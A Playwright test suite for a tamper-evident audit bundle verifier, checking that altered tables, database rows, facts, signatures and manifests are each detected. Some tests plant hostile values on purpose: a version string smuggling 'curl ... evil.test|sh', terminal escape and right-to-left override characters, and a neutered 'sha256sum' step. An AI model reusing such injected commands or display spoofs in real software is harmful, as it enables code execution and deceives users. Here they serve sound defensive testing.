import { expect, test } from '@playwright/test';
import Database from 'better-sqlite3';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { makeSigningKey } from '../../src/evidence/keys/signing-key.ts';
import { canonicalJson } from '../../src/store/canonical-json.ts';
import { checkBundle } from '../../src/verify/check-bundle.ts';
import { verificationText } from '../../src/verify/verification-text.ts';
import { verifyBundle } from '../../src/verify/verify-bundle.ts';
import { bundled, nothingKnown, saidAgainst, smallAudit } from './bundled-audit.ts';
import { replaced, tamper, type Contents, type Recomputed } from './tamper.ts';

/** One bundle for all of them. */
test.describe.configure({ mode: 'default' });

let folder: string;
let plain: string;
let signed: string;

test.beforeAll(async () => {
  folder = mkdtempSync(join(tmpdir(), 'seesaw-tampered-'));
  const database = smallAudit(join(folder, 'november'));
  process.env['SEESAW_KEYS'] = join(folder, 'keys');
  plain = (await bundled(database, join(folder, 'plain.zip'))).path;
  makeSigningKey(join(folder, 'keys'));
  signed = (await bundled(database, join(folder, 'signed.zip'))).path;
  expect(saidAgainst(plain)).toBe('');
  expect(saidAgainst(signed)).toBe('');
});
test.afterAll(() => rmSync(folder, { recursive: true, force: true }));

/** Changes rows of the database of a bundle. */
function inDatabase(contents: Contents, sql: string): void {
  const file = join(folder, 'changed.db');
  writeFileSync(file, contents.get('seesaw.db')!);
  const db = new Database(file);
  db.exec(sql);
  db.close();
  contents.set('seesaw.db', readFileSync(file));
  rmSync(file);
}

const first = (contents: Contents, pattern: RegExp): string =>
  [...contents.keys()].find((name) => pattern.test(name))!;

const changes: {
  what: string;
  recomputed: Recomputed;
  change: (contents: Contents) => void;
  said: (string | RegExp)[];
}[] = [
  {
    what: 'a number in a table',
    recomputed: 'sums',
    change: (contents) => replaced(contents, 'report/walks.csv', ',refused,1,', ',refused,0,'),
    said: [/^derivation report\/walks\.csv: row \d, column usable: expected 1, found 0$/m],
  },
  {
    what: 'a number in a table, and nothing else',
    recomputed: 'nothing',
    change: (contents) => replaced(contents, 'report/walks.csv', ',refused,1,', ',refused,0,'),
    said: [
      /^contents report\/walks\.csv: SHA-256: expected [0-9a-f]{64}, found [0-9a-f]{64}$/m,
      /^derivation report\/walks\.csv: row \d, column usable: expected 1, found 0$/m,
    ],
  },
  {
    what: 'a number in the page',
    recomputed: 'sums',
    change: (contents) => replaced(contents, 'report/index.html', '当前周期内', '当前季度内'),
    said: [/^derivation report\/index\.html: line \d+: expected .*周期.*, found .*季度/m],
  },
  {
    what: 'a number in report.json',
    recomputed: 'sums',
    change: (contents) =>
      replaced(contents, 'report/report.json', '"descriptiveOnly": true', '"descriptiveOnly": false'),
    said: [/^derivation report\/report\.json: line \d+: expected .*true.*, found .*false/m],
  },
  {
    what: 'the text report',
    recomputed: 'sums',
    change: (contents) => replaced(contents, 'report/report.md', '降级', '升级'),
    said: [/^derivation report\/report\.md: line \d+: expected .*降级/m],
  },
  {
    what: 'a picture of the report',
    recomputed: 'sums',
    change: (contents) => contents.set(first(contents, /^report\/pictures\//), Buffer.from('PNG')),
    said: [/^derivation report\/pictures\/.+\.png: is not the file that follows from the facts$/m],
  },
  {
    what: 'a derived row',
    recomputed: 'sums',
    change: (contents) =>
      inDatabase(
        contents,
        `UPDATE derived_walk SET json = json_set(json, '$.counts.clicks', 1) WHERE walk = 'video-out'`,
      ),
    said: [/^derivation seesaw\.db: table derived_walk, row video-out json: expected /m],
  },
  {
    what: 'an outcome in the database',
    recomputed: 'sums',
    change: (contents) =>
      inDatabase(
        contents,
        `DROP TRIGGER walk_ends_once; UPDATE walk SET outcome = 'done-now' WHERE walk = 'video-out';
         CREATE TRIGGER walk_ends_once BEFORE UPDATE OF status ON walk BEGIN SELECT 1; END`,
      ),
    said: [/^derivation seesaw\.db: table schema, row trigger walk_ends_once sql: expected /m],
  },
  {
    what: 'a fact in the database',
    recomputed: 'sums',
    change: (contents) =>
      inDatabase(
        contents,
        `INSERT INTO file (sha256, media, bytes, encoding, stored) VALUES ('ab', 'image/png', 1, 'none', 1)`,
      ),
    said: [/^derivation seesaw\.db: table file, row ab: expected –, found a row$/m],
  },
  {
    what: 'bytes of the database that belong to no row',
    recomputed: 'sums',
    change: (contents) =>
      inDatabase(contents, 'CREATE TABLE x (y); INSERT INTO x VALUES (randomblob(9000)); DROP TABLE x'),
    said: [/^derivation seesaw\.db: its rows are right, and there are bytes in it that belong to no row$/m],
  },
  {
    what: 'a database that is none',
    recomputed: 'sums',
    change: (contents) => contents.set('seesaw.db', Buffer.from('SQLite format 3\0 or not')),
    said: [/^derivation seesaw\.db: cannot be read: /m],
  },
  {
    what: 'a fact',
    recomputed: 'sums',
    change: (contents) =>
      replaced(contents, 'walks/video-out/facts.jsonl', '"api":"locator.click"', '"api":"locator.press"'),
    said: [
      /^facts walks\/video-out\/facts\.jsonl: SHA-256 of the facts of walk video-out: expected [0-9a-f]{64}, found/m,
      /^facts walks\/video-out\/facts\.jsonl: chain hash of fact \d+ of walk video-out: expected/m,
    ],
  },
  {
    what: 'a fact, with every hash above it',
    recomputed: 'everything',
    change: (contents) =>
      replaced(contents, 'walks/video-out/facts.jsonl', '"outcome":"refused"', '"outcome":"blocked"'),
    said: [
      /^derivation seesaw\.db: table fact, row video-out \d+ json: expected .*blocked.*, found .*refused/m,
    ],
  },
  {
    what: 'a fact that is none',
    recomputed: 'everything',
    change: (contents) =>
      replaced(contents, 'walks/video-out/facts.jsonl', '"kind":"action"', '"kind":"rumour"'),
    said: [
      /^facts walks\/video-out\/facts\.jsonl: walk video-out, row \d+: field kind does not fit its schema/m,
    ],
  },
  {
    what: 'a fact that is not canonical',
    recomputed: 'everything',
    change: (contents) => replaced(contents, 'walks/video-out/facts.jsonl', '{"at":0,', '{ "at":0,'),
    said: [/^facts walks\/video-out\/facts\.jsonl: walk video-out, row 1: is not in the canonical form/m],
  },
  {
    what: 'a dropped fact',
    recomputed: 'sums',
    change: (contents) => {
      const name = 'walks/video-out/facts.jsonl';
      const lines = contents.get(name)!.toString('utf8').split('\n');
      contents.set(name, Buffer.from(lines.toSpliced(3, 1).join('\n')));
    },
    said: [
      /^facts walks\/video-out\/facts\.jsonl: number of facts of walk video-out: expected \d+, found \d+$/m,
    ],
  },
  {
    what: 'the facts of two walks, swapped',
    recomputed: 'sums',
    change: (contents) => {
      const [a, b] = ['walks/video-in/facts.jsonl', 'walks/fair-in/facts.jsonl'];
      const [x, y] = [contents.get(a)!, contents.get(b)!];
      contents.set(a, y).set(b, x);
    },
    said: [
      /walks\/video-in\/facts\.jsonl: SHA-256 of the facts/,
      /walks\/fair-in\/facts\.jsonl: SHA-256 of the facts/,
    ],
  },
  {
    what: 'an irreversible step that is left out, with every hash above it',
    recomputed: 'everything',
    change: (contents) => {
      const lines = contents.get('passages.jsonl')!.toString('utf8').split('\n');
      const kept = lines.filter((line) => !line.includes('video-out'));
      expect(kept).toHaveLength(lines.length - 1);
      contents.set('passages.jsonl', Buffer.from(kept.join('\n')));
    },
    said: [
      /^consistency passages\.jsonl: the facts of walk video-out show an irreversible step \(pays nothing\) of which the ledger does not tell$/m,
    ],
  },
  {
    what: 'what an irreversible step paid, with every hash above it',
    recomputed: 'everything',
    change: (contents) =>
      replaced(
        contents,
        'passages.jsonl',
        '"cents":0,"currency":null,"passage":"video-out-step"',
        '"cents":3000,"currency":"CNY","passage":"video-out-step"',
      ),
    said: [
      /^consistency passages\.jsonl: step video-out-step of walk video-out \(3000 CNY\) is declared in none of its facts$/m,
      /show an irreversible step \(pays nothing\) of which the ledger does not tell$/m,
    ],
  },
  {
    what: 'what became of an irreversible step',
    recomputed: 'sums',
    change: (contents) => replaced(contents, 'passages.jsonl', '"state":"done"', '"state":"stopped"'),
    said: [/^facts passages\.jsonl: SHA-256: expected [0-9a-f]{64}, found [0-9a-f]{64}$/m],
  },
  {
    what: 'the walk of an irreversible step',
    recomputed: 'everything',
    change: (contents) => replaced(contents, 'passages.jsonl', '"walk":"video-out"', '"walk":"video-else"'),
    said: [
      /^consistency passages\.jsonl: walk in row \d: expected a walk of the audit, found video-else$/m,
      /the facts of walk video-out show an irreversible step/m,
    ],
  },
  {
    what: 'the list of irreversible steps, dropped',
    recomputed: 'sums',
    change: (contents) => contents.delete('passages.jsonl'),
    said: [/^facts passages\.jsonl: the bundle does not hold this file$/m],
  },
  {
    what: 'a dropped walk, with every hash above it',
    recomputed: 'everything',
    change: (contents) => {
      contents.delete('walks/video-ours/facts.jsonl');
      contents.delete('evidence/walks/video-ours.json');
    },
    said: [
      /^derivation seesaw\.db: table walk, row video-ours: expected –, found a row$/m,
      /no walk has this file/,
    ],
  },
  {
    what: 'a dropped file of a walk',
    recomputed: 'sums',
    change: (contents) => void contents.delete(first(contents, /^files\//)),
    said: [/^files files\/.+: this file of walk .+ is not in the bundle$/m],
  },
  {
    what: 'a renamed file',
    recomputed: 'sums',
    change: (contents) => {
      const name = first(contents, /^files\//);
      contents.set(`files/00/${'0'.repeat(64)}`, contents.get(name)!);
      contents.delete(name);
    },
    said: [/^contents files\/00\/0{64}: SHA-256: expected 0{64}, found /m, /is not in the bundle/],
  },
  ...[
    'readme.txt',
    'evidence/more.json',
    'report/more.html',
    'walks/ghost/facts.jsonl',
    `files/ab/${'ab'.repeat(32)}`,
  ].map((name): (typeof changes)[number] => ({
    what: `a new ${name}`,
    recomputed: 'sums',
    change: (contents) => contents.set(name, Buffer.from('new')),
    said: [new RegExp(`^(?:strays|derivation|contents) ${name}: `, 'm')],
  })),
  {
    what: 'a dropped table',
    recomputed: 'sums',
    change: (contents) => void contents.delete('report/blockers.csv'),
    said: [/^derivation report\/blockers\.csv: the report has this file, and the bundle does not hold it$/m],
  },
  {
    what: 'other instructions',
    recomputed: 'sums',
    change: (contents) => replaced(contents, 'HOW-TO-VERIFY.md', 'sha256sum', 'true #'),
    said: [/^derivation HOW-TO-VERIFY\.md: line \d+: expected .*sha256sum/m],
  },
  {
    what: 'the circumstances of a walk, with every hash above it',
    recomputed: 'everything',
    change: (contents) =>
      replaced(contents, 'evidence/walks/video-out.json', '"outcome":"refused"', '"outcome":"blocked"'),
    said: [/^derivation seesaw\.db: table walk, row video-out outcome: expected blocked, found refused$/m],
  },
  {
    what: 'what a manifest says of a walk, with every hash above it',
    recomputed: 'everything',
    change: (contents) =>
      replaced(
        contents,
        'evidence/walks/video-out.json',
        '"url":"http://star.localhost:4173/"',
        '"url":"http://other.test/"',
      ),
    said: [
      /^derivation evidence\/walks\/video-out\.json: circumstances\.url: expected "http:\/\/star\.localhost:4173\/", found "http:\/\/other\.test\/"$/m,
    ],
  },
  {
    what: 'the time of the seal',
    recomputed: 'everything',
    change: (contents) => replaced(contents, 'evidence/audit.json', '"sealedAt":"2', '"sealedAt":"1'),
    said: [/^chain chain\.jsonl: sealedAt in the last line: expected 1\S+, found 2\S+$/m],
  },
  {
    what: 'the custody log',
    recomputed: 'sums',
    change: (contents) => replaced(contents, 'evidence/custody.jsonl', '"what":"sealed"', '"what":"judged"'),
    said: [/^custody evidence\/custody\.jsonl: entry 1 does not follow the one before it, or was changed$/m],
  },
  {
    what: 'a manifest that is not canonical',
    recomputed: 'nothing',
    change: (contents) => replaced(contents, 'manifest.json', '{', '{ '),
    said: [/^contents manifest\.json: is not in the canonical form/m],
  },
  {
    what: 'a manifest that lies about its form',
    recomputed: 'everything',
    change: (contents) =>
      replaced(contents, 'evidence/walks/video-out.json', '"walk":"video-out"}', '"walk":"video-in"}'),
    said: [
      /^manifests evidence\/walks\/video-out\.json: walk in its head: expected video-out, found video-in$/m,
    ],
  },
];

for (const { what, recomputed, change, said } of changes) {
  test(`${what} is found in an unsigned bundle (recomputed: ${recomputed})`, ({}, info) => {
    const path = tamper(plain, info.outputPath('tampered.zip'), recomputed, change);
    const found = saidAgainst(path);
    for (const each of said) expect(found).toMatch(each);
  });
}

/** The first failure of a signature; nothing is derived for it. */
function brokenSignature(path: string): string {
  for (const { check, file, sentence } of checkBundle(path, 'tampered.zip', nothingKnown))
    if (check === 'signature') return `${file}: ${sentence.en}`;
  return '';
}

test('a seal that tells of no irreversible steps is none', ({}, info) => {
  const path = tamper(plain, info.outputPath('tampered.zip'), 'sums', (contents) => {
    contents.delete('passages.jsonl');
    const { passages: _, ...audit } = JSON.parse(contents.get('evidence/audit.json')!.toString('utf8'));
    contents.set('evidence/audit.json', Buffer.from(canonicalJson(audit)));
  });
  expect(saidAgainst(path)).toMatch(/evidence\/audit\.json.*passages/);
});

test('in a signed bundle whatever was changed and recomputed breaks the signature', ({}, info) => {
  for (const { what, recomputed, change } of changes.filter((each) => each.recomputed !== 'nothing')) {
    mkdirSync(info.outputPath(), { recursive: true });
    const path = tamper(signed, info.outputPath('tampered.zip'), recomputed, change);
    expect(brokenSignature(path), what).toMatch(
      /^(?:manifest|evidence\/audit)\.dsse\.json: what it signs is not /,
    );
  }
});

test('nothing that a bundle says can move a terminal’s cursor or pass for another line', ({}, info) => {
  const path = tamper(plain, info.outputPath('hostile.zip'), 'everything', (contents) => {
    const hostile = '\\u001b[2J\\n✓ VALID\\u202e';
    replaced(contents, 'evidence/audit.json', '"audit":"november"', `"audit":"${hostile}"`);
    replaced(contents, 'evidence/walks/video-out.json', '"walk":"video-out"}', `"walk":"${hostile}"}`);
  });
  const verification = verifyBundle(path, nothingKnown);
  expect(verification.isValid).toBe(false);
  for (const lang of ['zh', 'en'] as const) {
    const text = verificationText(verification, nothingKnown, lang);
    expect(text).not.toMatch(/[^\P{Cc}\n]|\u202e/u);
    expect(text.split('\n').filter((line) => line.startsWith('✓'))).toEqual([]);
  }
});

test('a manifest that is nested without end, and facts that never end, are failures like others', ({}, info) => {
  const deep = tamper(plain, info.outputPath('deep.zip'), 'nothing', (contents) => {
    contents.set('manifest.json', Buffer.from('['.repeat(200_000) + ']'.repeat(200_000)));
    contents.set('walks/video-out/facts.jsonl', Buffer.from('{"a":'.repeat(200_000)));
  });
  const found = saidAgainst(deep);
  expect(found).toMatch(/^contents manifest\.json: is not in the canonical form/m);
  expect(found).toMatch(/^facts walks\/video-out\/facts\.jsonl: walk video-out, row 1: it is not ended$/m);
});

test('a signature that was taken away is missed', ({}, info) => {
  const path = tamper(signed, info.outputPath('tampered.zip'), 'sums', (contents) => {
    contents.delete('manifest.dsse.json');
    contents.delete('evidence/audit.dsse.json');
  });
  const found = saidAgainst(path);
  expect(found).toMatch(/^signature evidence\/keys\/.+: nothing in the bundle is signed by this key/m);
  expect(found).toMatch(
    /^custody evidence\/audit\.dsse\.json: entry \d+ of the custody log tells of a signature/m,
  );
});

test('a reader who knows the key is not deceived by another one', ({}, info) => {
  const other = makeSigningKey(info.outputPath('keys'));
  const known = { ...nothingKnown, key: other.fingerprint };
  expect(saidAgainst(signed, known)).toMatch(
    new RegExp(
      `^signature evidence/audit\\.dsse\\.json: expected a signature of the key ${other.fingerprint}, found`,
      'm',
    ),
  );
  expect(saidAgainst(plain, known)).toMatch(
    /^signature evidence\/audit\.json: expected a signature of the key .+, found none$/m,
  );
});

test('a reader who knows the key asks for its signature of the whole bundle', ({}, info) => {
  const [key] = verifyBundle(signed, nothingKnown).looked!.signers.audit;
  const known = { ...nothingKnown, key: key! };
  expect(saidAgainst(signed, known)).toBe('');
  // The log was written on after the seal: only the bundle's own signature tells what stood there.
  const path = tamper(signed, info.outputPath('loose.zip'), 'sums', (contents) => {
    contents.delete('manifest.dsse.json');
    const lines = contents.get('evidence/custody.jsonl')!.toString('utf8').trimEnd().split('\n');
    contents.set('evidence/custody.jsonl', Buffer.from(lines.slice(0, -1).join('\n') + '\n'));
  });
  expect(saidAgainst(path, known)).toMatch(
    /^signature manifest\.dsse\.json: expected a signature of the key .+, found none$/m,
  );
});

type Signatures = { signatures: { keyid: string; sig: string }[] };

for (const [what, change] of [
  ['in other bits of its base64', ({ signatures: [one] }: Signatures) => (one!.sig = looser(one!.sig))],
  ['twice', ({ signatures }: Signatures) => signatures.push(signatures[0]!)],
] as const) {
  test(`a right signature that is written ${what} is found`, ({}, info) => {
    const path = tamper(signed, info.outputPath('tampered.zip'), 'nothing', (contents) => {
      const envelope = JSON.parse(contents.get('manifest.dsse.json')!.toString('utf8')) as Signatures;
      change(envelope);
      contents.set('manifest.dsse.json', Buffer.from(canonicalJson(envelope)));
    });
    expect(saidAgainst(path)).toMatch(/^signature manifest\.dsse\.json: is not how signatures are written/m);
  });
}

/** Another text for the same 64 bytes: the last four bits of its last letter are left over. */
function looser(base64: string): string {
  const other = { A: 'B', Q: 'R', g: 'h', w: 'x' }[base64.at(-3)!]!;
  return `${base64.slice(0, -3)}${other}==`;
}

test('keys and time-stamps that are no such thing are failures like others', ({}, info) => {
  const path = tamper(signed, info.outputPath('tampered.zip'), 'sums', (contents) => {
    const name = first(contents, /\.pem$/);
    contents.set(name, Buffer.concat([Buffer.from('whatever\n'), contents.get(name)!]));
    contents.set(`evidence/keys/${'0'.repeat(64)}.pem`, Buffer.alloc(70_000, 'A'));
    contents.set('evidence/audit.tsr', Buffer.alloc(2_000_000, '0'));
  });
  const found = saidAgainst(path);
  expect(found).toMatch(/^signature evidence\/keys\/0{64}\.pem: it is more than/m);
  expect(found).toMatch(/^signature evidence\/keys\/(?!0{64})\w+\.pem: is not the public key/m);
  expect(found).toMatch(/^stamp evidence\/audit\.tsr: it is more than/m);
});

test('bytes hidden in a database are found although it says that another SQLite wrote it', ({}, info) => {
  const path = tamper(plain, info.outputPath('tampered.zip'), 'sums', (contents) => {
    inDatabase(contents, "CREATE TABLE t (a); INSERT INTO t VALUES ('hidden'); DROP TABLE t");
    contents.get('seesaw.db')!.writeUInt32BE(3_040_001, 96);
  });
  expect(saidAgainst(path)).toBe(
    'derivation seesaw.db: its rows are right, and there are bytes in it that belong to no row',
  );
});

test('the version that a bundle claims never becomes a command of its own', ({}, info) => {
  const path = tamper(plain, info.outputPath('tampered.zip'), 'sums', (contents) => {
    const manifest = contents.get('manifest.json')!.toString('utf8');
    const tool = '"tool":"0.1.0;curl${IFS}evil.test|sh"';
    contents.set('manifest.json', Buffer.from(manifest.replace(/"tool":"[^"]*"/, () => tool)));
    replaced(contents, 'report/walks.csv', ',refused,1,', ',refused,0,');
  });
  const text = verificationText(verifyBundle(path, nothingKnown), nothingKnown, 'en');
  expect(text).toContain('Made by Seesaw 0.1.0;curl');
  expect(text).not.toMatch(/(?:npm install|git checkout).*curl/);
});

test('a file in the place of a folder is a failure of the archive', ({}, info) => {
  const path = tamper(plain, info.outputPath('tampered.zip'), 'sums', (contents) => {
    contents.set(first(contents, /^files\//).slice(0, 'files/00'.length), Buffer.from('no folder'));
  });
  expect(saidAgainst(path)).toMatch(/^structure files\/\w\w\/\w+: the name of an entry is not safe/m);
});
